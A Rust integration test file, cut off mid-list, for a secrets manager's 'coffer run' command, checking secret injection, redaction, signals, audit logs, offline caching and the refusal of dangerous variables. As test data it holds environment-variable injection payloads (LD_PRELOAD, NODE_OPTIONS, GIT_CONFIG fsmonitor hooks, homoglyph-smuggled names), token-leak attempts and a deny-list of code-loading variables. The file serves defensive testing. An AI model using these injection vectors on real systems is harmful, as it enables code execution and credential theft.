//! `coffer run` end to end, against the real server and real child
//! processes: environment contents, references in .env files and in the
//! environment, exit status, signals, refused names, redaction of values
//! split across writes, refusals that run nothing, and the audit record of
//! the one request that fetched everything.

use crate::common;

use std::io::{BufRead, BufReader};
use std::os::unix::process::ExitStatusExt;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use common::canary::Canary;
use common::{Mode, Server, ok};

fn put(server: &Server, token: &str, path: &str, value: &str) {
    let body = serde_json::json!({ "value": value }).to_string();
    let r = server.http(
        "PUT",
        &format!("/api/v1/secrets/{path}"),
        Some(token),
        Some(body.as_bytes()),
    );
    ok(&r, "write");
}

/// A token whose policy reads (and lists) only `app/dev/*`.
fn dev_token(server: &Server, root: &str) -> String {
    let policy = serde_json::json!({
        "policy": "path \"app/dev/*\" { capabilities = [\"read\", \"list\"] }\n"
    })
    .to_string();
    ok(
        &server.http(
            "PUT",
            "/api/v1/sys/policies/dev",
            Some(root),
            Some(policy.as_bytes()),
        ),
        "policy",
    );
    let body = br#"{"policies":["dev"],"display_name":"dev-app"}"#;
    let r = server.http("POST", "/api/v1/auth/tokens", Some(root), Some(body));
    ok(&r, "token")["token"].as_str().unwrap().to_string()
}

#[test]
fn injects_prefixes_and_references_and_exits_with_the_commands_status() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start(dir.path(), Mode::Dev);
    let root = server.root_token();
    put(&server, &root, "app/common/SHARED", "common-1");
    put(&server, &root, "app/dev/SHARED", "dev-wins");
    put(
        &server,
        &root,
        "app/dev/DATABASE_URL",
        "postgres://u:p@db/app?x=1&y=$HOME",
    );
    put(
        &server,
        &root,
        "app/dev/DATABASE_URL",
        "postgres://u:p2@db/app",
    );
    put(
        &server,
        &root,
        "app/dev/API_KEY",
        "key with 'quotes' and \"more\"\nand a line",
    );
    put(&server, &root, "app/other/ONLY_BY_REF", "by-reference");
    let env_file = dir.path().join("app.env");
    std::fs::write(
        &env_file,
        "OLD_DB=coffer://app/dev/DATABASE_URL#1\nPLAIN=plain value\nEXPANDED=${PLAIN}-x\n",
    )
    .unwrap();

    let script = r#"printf '%s|' "$SHARED" "$DATABASE_URL" "$API_KEY" "$OLD_DB" "$PLAIN" "$EXPANDED" "$FROM_ENV" "$KEEP" "${COFFER_TOKEN:-no-token}"; exit 7"#;
    let run = server
        .cli()
        .token(&root)
        .env("FROM_ENV", "coffer://app/other/ONLY_BY_REF")
        .env("KEEP", "inherited")
        .run(&[
            "run",
            "--path",
            "app/common",
            "--path",
            "app/dev",
            "--env-file",
            env_file.to_str().unwrap(),
            "--",
            "sh",
            "-c",
            script,
        ]);
    assert_eq!(run.code(), 7, "the command's status: {}", run.stderr());
    assert_eq!(
        run.stdout(),
        "dev-wins|postgres://u:p2@db/app|key with 'quotes' and \"more\"\nand a line|postgres://u:p@db/app?x=1&y=$HOME|plain value|plain value-x|by-reference|inherited|no-token|"
    );
    // Coffer's own token reaches the command only when asked.
    let run = server.cli().token(&root).run(&[
        "run",
        "--keep-token",
        "--",
        "sh",
        "-c",
        "printf %s \"$COFFER_TOKEN\"",
    ]);
    assert_eq!(run.stdout(), root);

    // --only picks names, and each must exist.
    let run = server.cli().token(&root).run(&[
        "run",
        "--path",
        "app/dev",
        "--only",
        "API_KEY",
        "--",
        "sh",
        "-c",
        "printf '%s/%s' \"${API_KEY:+set}\" \"${SHARED:-unset}\"",
    ]);
    assert_eq!(
        (run.code(), run.stdout().as_str()),
        (0, "set/unset"),
        "{}",
        run.stderr()
    );
    let run = server.cli().token(&root).run(&[
        "run",
        "--path",
        "app/dev",
        "--only",
        "API_KEY,NOPE",
        "--",
        "true",
    ]);
    assert_eq!(run.code(), 3);
    assert!(run.stderr().contains("NOPE"), "{}", run.stderr());

    // The top level is a prefix too.
    put(&server, &root, "TOPLEVEL", "top");
    let run = server.cli().token(&root).run(&[
        "run",
        "--path",
        "/",
        "--only",
        "TOPLEVEL",
        "--",
        "sh",
        "-c",
        "printf %s \"$TOPLEVEL\"",
    ]);
    assert_eq!(
        (run.code(), run.stdout().as_str()),
        (0, "top"),
        "{}",
        run.stderr()
    );

    // A command that does not exist.
    let run =
        server
            .cli()
            .token(&root)
            .run(&["run", "--path", "app/dev", "--", "/nonexistent/program"]);
    assert_eq!(run.code(), 3, "{}", run.stderr());
    assert!(run.stderr().contains("cannot run /nonexistent/program"));
}

#[test]
fn refusals_run_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start(dir.path(), Mode::Dev);
    let root = server.root_token();
    put(&server, &root, "app/dev/API_KEY", "dev-key-value");
    put(&server, &root, "app/prod/API_KEY", "prod-key-value");
    put(&server, &root, "app/evil/LD_PRELOAD", "/tmp/evil.so");
    put(
        &server,
        &root,
        "app/evil/NODE_OPTIONS",
        "--require /tmp/evil.js",
    );
    put(&server, &root, "app/odd/not-a-name", "x");
    let dev = dev_token(&server, &root);
    let marker = dir.path().join("ran");
    let touch = format!("touch {}", marker.display());
    let attempt = |token: &str, args: &[&str]| {
        let mut all: Vec<&str> = vec!["run"];
        all.extend_from_slice(args);
        all.extend_from_slice(&["--", "sh", "-c", &touch]);
        let run = server.cli().token(token).run(&all);
        assert!(!marker.exists(), "the command ran for {args:?}");
        run
    };

    // A reference the token may not read: 403, exit 4, nothing runs, and
    // the allowed values are not served either.
    let run = server
        .cli()
        .token(&dev)
        .env("PROD", "coffer://app/prod/API_KEY")
        .run(&["run", "--path", "app/dev", "--", "sh", "-c", &touch]);
    assert_eq!(run.code(), 4, "{}", run.stderr());
    assert!(!marker.exists());
    assert!(
        run.stderr().contains("app/prod/API_KEY"),
        "{}",
        run.stderr()
    );
    // A prefix it may not list.
    assert_eq!(attempt(&dev, &["--path", "app/prod"]).code(), 4);
    // A reference to nothing.
    let run = server
        .cli()
        .token(&root)
        .env("GONE", "coffer://app/dev/GONE")
        .run(&["run", "--", "sh", "-c", &touch]);
    assert_eq!(run.code(), 3, "{}", run.stderr());
    assert!(!marker.exists());
    // A malformed reference.
    let run = server
        .cli()
        .token(&root)
        .env("BAD", "coffer://app/dev/API_KEY#older")
        .run(&["run", "--", "sh", "-c", &touch]);
    assert_eq!(run.code(), 7, "{}", run.stderr());
    // A label that names no version (nothing was ever rotated).
    let run = server
        .cli()
        .token(&root)
        .env("OLD", "coffer://app/dev/API_KEY#pending")
        .run(&["run", "--", "sh", "-c", &touch]);
    assert_eq!(run.code(), 3, "{}", run.stderr());
    assert!(
        run.stderr().contains("no pending version"),
        "{}",
        run.stderr()
    );
    assert!(!marker.exists());
    // Dangerous names are refused, all named at once, unless allowed.
    let run = attempt(&root, &["--path", "app/evil"]);
    assert_eq!(run.code(), 7);
    for name in ["LD_PRELOAD", "NODE_OPTIONS", "--allow-env"] {
        assert!(run.stderr().contains(name), "{name}: {}", run.stderr());
    }
    let run = attempt(&root, &["--path", "app/evil", "--allow-env", "LD_PRELOAD"]);
    assert_eq!(run.code(), 7, "NODE_OPTIONS is still refused");
    // Names that are not variable names.
    let run = attempt(&root, &["--path", "app/odd"]);
    assert_eq!(run.code(), 7);
    assert!(
        run.stderr().contains("app/odd/not-a-name"),
        "{}",
        run.stderr()
    );
    // --only leaves them out.
    put(&server, &root, "app/odd/FINE", "fine");
    let run = server.cli().token(&root).run(&[
        "run",
        "--path",
        "app/odd",
        "--only",
        "FINE",
        "--",
        "sh",
        "-c",
        "printf %s \"$FINE\"",
    ]);
    assert_eq!(
        (run.code(), run.stdout().as_str()),
        (0, "fine"),
        "{}",
        run.stderr()
    );
    // A misspelt request field is an error, not an empty answer.
    let r = server.http(
        "POST",
        "/api/v1/bundle",
        Some(&root),
        Some(br#"{"prefix":["app/dev"]}"#),
    );
    assert_eq!(r.status, 400, "{}", r.text());
    // A bad .env file.
    let bad = dir.path().join("bad.env");
    std::fs::write(&bad, "GOOD=1\nBAD=\"unclosed\" junk\n").unwrap();
    let run = attempt(&root, &["--env-file", bad.to_str().unwrap()]);
    assert_eq!(run.code(), 7);
    assert!(run.stderr().contains("line(s) 2"), "{}", run.stderr());
    // Allowed explicitly, it runs.
    let run = server.cli().token(&root).run(&[
        "run",
        "--path",
        "app/evil",
        "--only",
        "NODE_OPTIONS",
        "--allow-env",
        "NODE_OPTIONS",
        "--",
        "sh",
        "-c",
        "printf %s \"$NODE_OPTIONS\"",
    ]);
    assert_eq!(
        (run.code(), run.stdout().as_str()),
        (0, "--require /tmp/evil.js")
    );
}

#[test]
fn redact_replaces_values_split_across_writes() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start(dir.path(), Mode::Dev);
    let root = server.root_token();
    let mut canary = Canary::new("run");
    put(&server, &root, "app/dev/API_KEY", &canary.value);
    put(&server, &root, "app/dev/PIN", "123");
    // The value in one write, then split across two writes with a pause, on
    // both streams; then exit with a status of its own.
    let script = r#"
        printf 'whole=%s\n' "$API_KEY"
        head=${API_KEY%????????}
        printf 'split=%s' "$head"; sleep 0.3; printf '%s\n' "${API_KEY#"$head"}"
        printf 'err=%s\n' "$API_KEY" >&2
        printf 'pin=%s\n' "$PIN"
        exit 3"#;
    let run = server.cli().token(&root).run(&[
        "run", "--path", "app/dev", "--redact", "--", "sh", "-c", script,
    ]);
    assert_eq!(run.code(), 3, "{}", run.stderr());
    assert_eq!(
        run.stdout(),
        "whole=[REDACTED:API_KEY]\nsplit=[REDACTED:API_KEY]\npin=123\n"
    );
    assert!(
        run.stderr().contains("err=[REDACTED:API_KEY]"),
        "{}",
        run.stderr()
    );
    assert!(
        run.stderr().contains("not redacting PIN"),
        "{}",
        run.stderr()
    );
    canary.search_run("coffer run --redact", &run);
    canary.search_dir(&server.data_dir());
    canary.search("server log", server.logs());
    // The value is stored (encrypted) in the data directory only.
    canary.assert_nowhere_else();
}

/// Starts `coffer run ARGS -- sh -c SCRIPT` where the script prints `ready`
/// once its trap is set, and returns the process after that line.
fn start_trapping(
    server: &Server,
    token: &str,
    args: &[&str],
    script: &str,
) -> std::process::Child {
    let mut child = Command::new(common::BIN)
        .env("COFFER_ADDR", &server.addr)
        .env("COFFER_TOKEN", token)
        .arg("run")
        .args(args)
        .args(["--", "sh", "-c", script])
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::inherit())
        .spawn()
        .unwrap();
    let mut line = String::new();
    BufReader::new(child.stdout.as_mut().unwrap())
        .read_line(&mut line)
        .unwrap();
    assert_eq!(line, "ready\n");
    child
}

fn wait_for(child: &mut std::process::Child) -> std::process::ExitStatus {
    let deadline = Instant::now() + Duration::from_secs(10);
    loop {
        if let Some(status) = child.try_wait().unwrap() {
            return status;
        }
        assert!(Instant::now() < deadline, "the command did not stop");
        std::thread::sleep(Duration::from_millis(20));
    }
}

#[test]
fn signals_reach_the_command_and_its_status_is_coffers() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start(dir.path(), Mode::Dev);
    let root = server.root_token();
    put(&server, &root, "app/dev/API_KEY", "signal-test-value");
    let script =
        r#"trap 'exit 42' TERM; trap 'exit 43' USR1; echo ready; while :; do sleep 0.05; done"#;
    for (args, signal, code) in [
        (&["--path", "app/dev"][..], "TERM", 42),
        (&["--path", "app/dev", "--redact"][..], "TERM", 42),
        (&["--path", "app/dev", "--redact"][..], "USR1", 43),
    ] {
        let mut child = start_trapping(&server, &root, args, script);
        let kill = Command::new("kill")
            .args([&format!("-{signal}"), &child.id().to_string()])
            .status()
            .unwrap();
        assert!(kill.success());
        assert_eq!(wait_for(&mut child).code(), Some(code), "{args:?} {signal}");
    }
    // A command ended by a signal: coffer, its parent, dies by the same
    // signal, as a shell expects of the command itself.
    for signal in ["KILL", "TERM", "INT", "QUIT"] {
        let script = format!("kill -{signal} $$");
        let run = server.cli().token(&root).run(&[
            "run", "--path", "app/dev", "--redact", "--", "sh", "-c", &script,
        ]);
        assert_eq!(
            run.out.status.signal(),
            Some(signal_number(signal)),
            "{signal}: {:?} {}",
            run.out.status,
            run.stderr()
        );
        // Not a core file of coffer's memory, even for SIGQUIT.
        assert!(!run.out.status.core_dumped(), "{signal}");
    }
}

fn signal_number(name: &str) -> i32 {
    match name {
        "HUP" => 1,
        "INT" => 2,
        "QUIT" => 3,
        "KILL" => 9,
        "TERM" => 15,
        _ => panic!("no number for {name}"),
    }
}

#[test]
fn one_request_is_audited_with_every_secret_it_served() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start(dir.path(), Mode::Dev);
    let root = server.root_token();
    put(&server, &root, "app/dev/A", "value-a");
    put(&server, &root, "app/dev/B", "value-b");
    put(&server, &root, "app/dev/B", "value-b2");
    put(&server, &root, "app/other/C", "value-c");
    let dev = dev_token(&server, &root);
    server
        .cli()
        .token(&dev)
        .env("REF", "coffer://app/dev/B#1")
        .run(&["run", "--path", "app/dev", "--", "true"])
        .expect(0);
    let log = std::fs::read_to_string(server.data_dir().join("audit.log")).unwrap();
    let bundles: Vec<serde_json::Value> = log
        .lines()
        .map(|l| serde_json::from_str::<serde_json::Value>(l).unwrap())
        .filter(|r| r["op"] == "secret.bundle")
        .collect();
    assert_eq!(bundles.len(), 1, "one request");
    let reads: Vec<(String, u64)> = bundles[0]["reads"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| {
            (
                r["path"].as_str().unwrap().to_string(),
                r["version"].as_u64().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        reads,
        [
            ("app/dev/A".to_string(), 1),
            ("app/dev/B".to_string(), 2),
            ("app/dev/B".to_string(), 1)
        ]
    );
    assert_eq!(bundles[0]["actor"]["name"], "dev-app");
    assert!(!log.contains("value-"), "no value in the audit log");

    // `audit readers` finds the bundle's reads, by version too.
    let readers = server
        .cli()
        .token(&root)
        .run(&["audit", "readers", "app/dev/B", "--version", "1", "--json"])
        .expect(0)
        .json();
    let names: Vec<&str> = readers["readers"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["name"].as_str().unwrap())
        .collect();
    assert_eq!(names, ["dev-app"]);

    // A refused bundle is one denied record naming the refused path, and
    // lists nothing as read.
    let run = server
        .cli()
        .token(&dev)
        .env("REF", "coffer://app/other/C")
        .run(&["run", "--path", "app/dev", "--", "true"]);
    assert_eq!(run.code(), 4);
    let log = std::fs::read_to_string(server.data_dir().join("audit.log")).unwrap();
    let last = log
        .lines()
        .map(|l| serde_json::from_str::<serde_json::Value>(l).unwrap())
        .rfind(|r| r["op"] == "secret.bundle")
        .unwrap();
    assert_eq!(last["outcome"], "denied");
    assert_eq!(last["path"], "app/other/C");
    assert!(last.get("reads").is_none(), "{last}");
}

/// The cache files `coffer run` keeps under the test's home.
fn cache_files(home: &std::path::Path) -> Vec<std::path::PathBuf> {
    common::files_under(&home.join("cache").join("coffer").join("run"))
}

/// Answers every connection on `addr` with `response`, as a gateway in
/// front of a dead server would.
/// Keeps a stopped server's port unreachable: bound, never listening, so a
/// connection to it is refused, and no other test's server can be given it.
fn hold_port(addr: &str) -> tokio::net::TcpSocket {
    let addr: std::net::SocketAddr = addr.parse().unwrap();
    let deadline = Instant::now() + Duration::from_secs(10);
    loop {
        let socket = tokio::net::TcpSocket::new_v4().unwrap();
        socket.set_reuseaddr(true).unwrap();
        match socket.bind(addr) {
            Ok(()) => return socket,
            Err(e) if e.kind() == std::io::ErrorKind::AddrInUse && Instant::now() < deadline => {
                std::thread::sleep(Duration::from_millis(50));
            }
            Err(e) => panic!("cannot hold {addr}: {e}"),
        }
    }
}

fn fake_gateway(addr: &str, response: &'static str) -> std::thread::JoinHandle<()> {
    // The port was the stopped server's; until it is bound here, another
    // test's connection may hold it for a moment as its own local port.
    let deadline = Instant::now() + Duration::from_secs(10);
    let listener = loop {
        match std::net::TcpListener::bind(addr) {
            Ok(l) => break l,
            Err(e) if e.kind() == std::io::ErrorKind::AddrInUse && Instant::now() < deadline => {
                std::thread::sleep(Duration::from_millis(50));
            }
            Err(e) => panic!("cannot listen on {addr} again: {e}"),
        }
    };
    std::thread::spawn(move || {
        use std::io::{Read, Write};
        for _ in 0..2 {
            let Ok((mut conn, _)) = listener.accept() else {
                return;
            };
            let mut buf = [0u8; 8192];
            let _ = conn.read(&mut buf);
            let _ = conn.write_all(response.as_bytes());
        }
    })
}

#[test]
fn offline_copy_serves_an_unreachable_server_only_and_expires() {
    use std::os::unix::fs::PermissionsExt;
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start(dir.path(), Mode::Dev);
    let root = server.root_token();
    let mut canary = Canary::new("offline");
    put(&server, &root, "app/dev/API_KEY", &canary.value);
    put(&server, &root, "app/dev/REGION", "eu-west");
    let t1 = dev_token(&server, &root);
    let t2 = dev_token(&server, &root);
    let print = ["sh", "-c", "printf '%s|%s' \"$API_KEY\" \"$REGION\""];
    let expected = format!("{}|eu-west", canary.value);
    let args = |extra: &[&'static str]| -> Vec<&'static str> {
        let mut v = vec!["run", "--path", "app/dev"];
        v.extend_from_slice(extra);
        v.push("--");
        v.extend_from_slice(&print);
        v
    };

    // A successful run keeps one encrypted copy, readable by its owner only.
    let run = server.cli().token(&t1).run(&args(&[])).expect(0);
    assert_eq!(run.stdout(), expected);
    canary.search_run_allowing_stdout("online run", &run);
    let files = cache_files(dir.path());
    assert_eq!(files.len(), 1, "{files:?}");
    let mode = |p: &std::path::Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode(&files[0]), 0o600);
    assert_eq!(mode(files[0].parent().unwrap()), 0o700);
    canary.search("cache file", std::fs::read(&files[0]).unwrap());

    // --offline uses it without asking the server, and says so.
    let run = server.cli().token(&t1).run(&args(&["--offline"])).expect(0);
    assert_eq!(run.stdout(), expected);
    assert!(
        run.stderr().contains("offline copy fetched"),
        "{}",
        run.stderr()
    );
    canary.search_run_allowing_stdout("offline run", &run);
    // Another request, or another token, has no copy.
    let run =
        server
            .cli()
            .token(&t1)
            .run(&["run", "--path", "app/other", "--offline", "--", "true"]);
    assert_eq!(run.code(), 3, "{}", run.stderr());
    assert!(run.stderr().contains("no cached copy"), "{}", run.stderr());
    server.cli().token(&t2).run(&args(&["--offline"])).expect(3);

    // A copy past its time limit is refused and deleted.
    server
        .cli()
        .token(&t1)
        .run(&args(&["--cache-ttl", "1s"]))
        .expect(0);
    std::thread::sleep(Duration::from_millis(1100));
    let run = server.cli().token(&t1).run(&args(&["--offline"]));
    assert_eq!(run.code(), 3, "{}", run.stderr());
    assert!(run.stderr().contains("expired"), "{}", run.stderr());
    assert!(cache_files(dir.path()).is_empty());
    server
        .cli()
        .token(&t1)
        .run(&["run", "--cache-ttl", "31d", "--", "true"])
        .expect(2);

    // A server that no longer accepts the token deletes every copy that
    // token fetched, not only the one of the request it refused.
    server.cli().token(&t2).run(&args(&[])).expect(0);
    server
        .cli()
        .token(&t2)
        .env("REGION_REF", "coffer://app/dev/REGION")
        .run(&["run", "--", "true"])
        .expect(0);
    assert_eq!(cache_files(dir.path()).len(), 2);
    ok(
        &server.http("DELETE", "/api/v1/auth/token/self", Some(&t2), None),
        "revoke",
    );
    server.cli().token(&t2).run(&args(&[])).expect(4);
    assert!(cache_files(dir.path()).is_empty());
    server.cli().token(&t2).run(&args(&["--offline"])).expect(3);
    // --no-cache keeps none.
    server
        .cli()
        .token(&t1)
        .run(&args(&["--no-cache"]))
        .expect(0);
    assert!(cache_files(dir.path()).is_empty());
    server.cli().token(&t1).run(&args(&[])).expect(0);
    let files = cache_files(dir.path());
    assert_eq!(files.len(), 1);

    // The server stops: the copy answers, and stderr says why.
    let addr = format!("http://{}", server.host_port());
    canary.search("server logs", server.logs());
    server.stop();
    let host_port = addr.trim_start_matches("http://").to_string();
    let hold = hold_port(&host_port);
    let cli = || common::Cli::new(&addr, dir.path()).token(&t1);
    let run = cli().run(&args(&[])).expect(0);
    assert_eq!(run.stdout(), expected);
    assert!(run.stderr().contains("cannot reach"), "{}", run.stderr());
    assert!(run.stderr().contains("offline copy"), "{}", run.stderr());
    canary.search_run_allowing_stdout("unreachable run", &run);
    // A gateway saying the server is down counts as unreachable; a sealed
    // coffer behind it (503 with coffer's error body) does not.
    drop(hold);
    let gateway = fake_gateway(
        &host_port,
        "HTTP/1.1 502 Bad Gateway\r\ncontent-type: text/html\r\ncontent-length: 13\r\nconnection: close\r\n\r\n<html></html>",
    );
    let run = cli().run(&args(&[])).expect(0);
    assert_eq!(run.stdout(), expected);
    assert!(run.stderr().contains("502"), "{}", run.stderr());
    let _ = std::net::TcpStream::connect(&host_port);
    gateway.join().unwrap();
    let sealed_body = r#"{"error":{"code":"sealed","message":"coffer is sealed"}}"#;
    let response: &'static str = Box::leak(
        format!(
            "HTTP/1.1 503 Service Unavailable\r\ncontent-type: application/json\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{sealed_body}",
            sealed_body.len()
        )
        .into_boxed_str(),
    );
    let gateway = fake_gateway(&host_port, response);
    let run = cli().run(&args(&[]));
    assert_eq!(run.code(), 5, "{}", run.stderr());
    let _ = std::net::TcpStream::connect(&host_port);
    gateway.join().unwrap();
    assert_eq!(
        cache_files(dir.path()).len(),
        1,
        "a sealed server keeps the copy"
    );

    // Without the copy, unreachable is unreachable.
    let _hold = hold_port(&host_port);
    let run = common::Cli::new(&addr, dir.path())
        .token(&t2)
        .run(&args(&[]));
    assert_eq!(run.code(), 6, "{}", run.stderr());

    // A copy others could read is refused; a damaged one is deleted.
    std::fs::set_permissions(&files[0], std::fs::Permissions::from_mode(0o644)).unwrap();
    let run = cli().run(&args(&["--offline"]));
    assert_eq!(run.code(), 4, "{}", run.stderr());
    std::fs::set_permissions(&files[0], std::fs::Permissions::from_mode(0o600)).unwrap();
    cli().run(&args(&["--offline"])).expect(0);
    let mut bytes = std::fs::read(&files[0]).unwrap();
    let last = bytes.len() - 1;
    bytes[last] ^= 1;
    std::fs::write(&files[0], &bytes).unwrap();
    let run = cli().run(&args(&[]));
    assert_eq!(run.code(), 6, "{}", run.stderr());
    assert!(run.stderr().contains("damaged"), "{}", run.stderr());
    assert!(cache_files(dir.path()).is_empty());
    canary.search_run("damaged run", &run);

    // The value is nowhere but the command's output: not in the cache
    // files, the data directory, or the server's logs.
    canary.search_dir(dir.path());
    canary.assert_nowhere_else();
}

/// Runs `coffer run ARGS -- sh -c 'touch MARKER'` and asserts that it
/// exits `code` without running the command.
fn refused_run(
    server: &Server,
    dir: &std::path::Path,
    token: &str,
    env: &[(&str, &str)],
    args: &[&str],
    code: i32,
) -> common::Run {
    let marker = dir.join("ran");
    let touch = format!("touch {}", marker.display());
    let mut all: Vec<&str> = vec!["run"];
    all.extend_from_slice(args);
    all.extend_from_slice(&["--", "sh", "-c", &touch]);
    let mut cli = server.cli().token(token);
    for (k, v) in env {
        cli = cli.env(k, v);
    }
    let run = cli.run(&all);
    assert_eq!(run.code(), code, "{args:?}: {}", run.stderr());
    assert!(!marker.exists(), "the command ran for {args:?}");
    run
}

#[test]
fn quoted_env_key_cannot_smuggle_a_refused_name() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start(dir.path(), Mode::Dev);
    let root = server.root_token();
    let env_file = dir.path().join("app.env");
    for text in [
        "'PYTHONPATH=./evil:'=x\n",
        "'NODE_OPTIONS=--require=./x.js --title'=x\n",
        "export 'LD_PRELOAD=/tmp/x.so'=x\n",
        "\"BASH_ENV\"=x\n",
        "`BASH_ENV`=x\n",
        "'\u{41b}D_PRELOAD'=x\n",
        "'LD_PRELOAD\u{200b}'=x\n",
        "'A B'=x\n",
        "1ABC=x\n",
        "ld_preload=/tmp/x.so\n",
        "export PYTHONPATH=./evil\n",
        "'GIT_CONFIG_COUNT'=1\n",
    ] {
        std::fs::write(&env_file, text).unwrap();
        let run = refused_run(
            &server,
            dir.path(),
            &root,
            &[],
            &["--env-file", env_file.to_str().unwrap()],
            7,
        );
        assert!(
            !run.stderr().contains("evil") && !run.stderr().contains("x.js"),
            "{}",
            run.stderr()
        );
    }
    // An inherited name cannot hold `=`: the environment splits at the first.
}

#[test]
fn expansion_never_reads_coffer_token() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start(dir.path(), Mode::Dev);
    let root = server.root_token();
    put(&server, &root, "app/dev/API_KEY", "dev-key-value");
    let token = dev_token(&server, &root);
    let mut canary = Canary::with_value(token.clone());
    let env_file = dir.path().join("app.env");
    for text in [
        "APP_SETTING=${COFFER_TOKEN}\n",
        "APP_SETTING=\"Bearer ${COFFER_TOKEN:-none}\"\n",
        "LEAK=coffer://leak/${COFFER_TOKEN}\n",
        "LEAK=coffer://app/dev/API_KEY#${COFFER_TOKEN}\n",
        "A=${COFFER_INVITE_CODE}\n",
    ] {
        std::fs::write(&env_file, text).unwrap();
        let run = refused_run(
            &server,
            dir.path(),
            &token,
            &[("COFFER_INVITE_CODE", "cfi_invitation-code-value")],
            &["--env-file", env_file.to_str().unwrap()],
            7,
        );
        assert!(
            run.stderr().contains("credential"),
            "{text}: {}",
            run.stderr()
        );
        canary.search_run(text, &run);
    }
    // Indirection through another variable is caught too.
    std::fs::write(&env_file, "APP_SETTING=${COPY}\n").unwrap();
    let run = refused_run(
        &server,
        dir.path(),
        &token,
        &[("COPY", &token)],
        &["--env-file", env_file.to_str().unwrap()],
        7,
    );
    canary.search_run("indirect", &run);
    // Nothing reached the server.
    let log = std::fs::read_to_string(server.data_dir().join("audit.log")).unwrap();
    assert!(!log.contains("leak"), "a request was sent");
    canary.search_server(&server);
    canary.assert_nowhere_else();
}

#[test]
fn token_shaped_reference_is_never_sent() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start(dir.path(), Mode::Dev);
    let root = server.root_token();
    let token = dev_token(&server, &root);
    let mut canary = Canary::with_value(token.clone());
    let leak = format!("coffer://leak/{token}");
    let partial = format!("coffer://leak/{}", &token[..30]);
    for (name, value) in [
        ("LEAK", leak.as_str()),
        ("LEAK", partial.as_str()),
        (token.as_str(), "coffer://app/dev/X#older"),
    ] {
        let run = refused_run(&server, dir.path(), &token, &[(name, value)], &[], 7);
        assert!(!run.stderr().contains(&token[4..20]), "{}", run.stderr());
        canary.search_run(name, &run);
    }
    // In a .env file, single-quoted (no expansion involved).
    let env_file = dir.path().join("app.env");
    std::fs::write(&env_file, format!("LEAK='{leak}'\n")).unwrap();
    let run = refused_run(
        &server,
        dir.path(),
        &token,
        &[],
        &["--env-file", env_file.to_str().unwrap()],
        7,
    );
    canary.search_run("file", &run);
    // Token-shaped prefixes and imported names are never sent either.
    let prefix = format!("leak/{token}");
    let run = refused_run(&server, dir.path(), &token, &[], &["--path", &prefix], 7);
    canary.search_run("run --path", &run);
    for args in [
        vec!["export", "--path", prefix.as_str(), "--format", "json"],
        vec![
            "check",
            "--path",
            prefix.as_str(),
            "--template",
            env_file.to_str().unwrap(),
        ],
    ] {
        let run = server.cli().token(&token).run(&args);
        assert_eq!(run.code(), 7, "{args:?}: {}", run.stderr());
        canary.search_run(args[0], &run);
    }
    std::fs::write(&env_file, format!("{token}=x\n")).unwrap();
    let run =
        server
            .cli()
            .token(&root)
            .run(&["import", env_file.to_str().unwrap(), "--path", "leak"]);
    assert_eq!(run.code(), 7, "{}", run.stderr());
    canary.search_run("import", &run);
    let log = std::fs::read_to_string(server.data_dir().join("audit.log")).unwrap();
    assert!(!log.contains("leak"), "a request was sent: {log}");
    canary.search_server(&server);
    canary.assert_nowhere_else();
}

/// Depends on the server refusing token-shaped paths and on the audit
/// writer masking token shapes: a client that sends one anyway (not
/// coffer's) leaves no raw token in any log or record.
#[test]
fn server_never_records_a_token_shaped_path() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start(dir.path(), Mode::Dev);
    let root = server.root_token();
    let token = dev_token(&server, &root);
    let mut canary = Canary::with_value(token.clone());
    let r = server.http(
        "GET",
        &format!("/api/v1/secrets/leak/{token}"),
        Some(&root),
        None,
    );
    canary.search_response("read", &r);
    let body = serde_json::json!({ "secrets": [{ "path": format!("leak/{token}") }] }).to_string();
    let r = server.http("POST", "/api/v1/bundle", Some(&root), Some(body.as_bytes()));
    canary.search_response("bundle", &r);
    canary.search_server(&server);
    canary.assert_nowhere_else();
}

#[test]
fn git_config_env_family_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start(dir.path(), Mode::Dev);
    let root = server.root_token();
    let marker = dir.path().join("ran");
    put(&server, &root, "app/git/GIT_CONFIG_COUNT", "1");
    put(&server, &root, "app/git/GIT_CONFIG_KEY_0", "core.fsmonitor");
    put(
        &server,
        &root,
        "app/git/GIT_CONFIG_VALUE_0",
        &format!("touch {}", marker.display()),
    );
    put(
        &server,
        &root,
        "app/py/PYTHONWARNINGS",
        "ignore::antigravity.x",
    );
    put(
        &server,
        &root,
        "app/py/BROWSER",
        &format!("touch {}", marker.display()),
    );
    for (prefix, names) in [
        (
            "app/git",
            &["GIT_CONFIG_COUNT", "GIT_CONFIG_KEY_0", "GIT_CONFIG_VALUE_0"][..],
        ),
        ("app/py", &["PYTHONWARNINGS", "BROWSER"][..]),
    ] {
        let run = refused_run(&server, dir.path(), &root, &[], &["--path", prefix], 7);
        for n in names {
            assert!(run.stderr().contains(n), "{n}: {}", run.stderr());
        }
        assert!(run.stderr().contains("--allow-env"), "{}", run.stderr());
    }
    // The rest of each family, from a .env file.
    let env_file = dir.path().join("app.env");
    for name in [
        "DOTNET_STARTUP_HOOKS",
        "OPENSSL_CONF",
        "LUA_INIT",
        "PHPRC",
        "GIT_ASKPASS",
        "LESSCLOSE",
        "PERL5OPT",
        "RUBYOPT",
        "JAVA_TOOL_OPTIONS",
        "SSH_ASKPASS",
        "SUDO_ASKPASS",
        "EDITOR",
        "GIT_PAGER",
        "MANPAGER",
        "BASH_FUNC_x%%",
        "ZDOTDIR",
        "PS4",
        "PROMPT_COMMAND",
        "XDG_CONFIG_HOME",
        "TERMINFO",
        "LOCPATH",
        "NLSPATH",
        "GCONV_PATH",
